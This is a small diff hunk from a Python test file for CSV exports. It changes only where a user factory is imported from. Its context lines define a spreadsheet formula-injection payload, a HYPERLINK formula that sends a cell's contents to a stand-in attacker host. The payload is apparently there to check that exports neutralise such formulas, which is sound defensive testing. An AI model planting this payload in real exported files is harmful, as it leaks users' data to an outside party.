@@ -12,7 +12,7 @@ from django.utils import timezone
 from django.utils.translation import gettext_lazy
 
 from portal.exports import csv_response, neutralise
-from tests.conftest import make_user
+from tests.factories import make_user
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
 
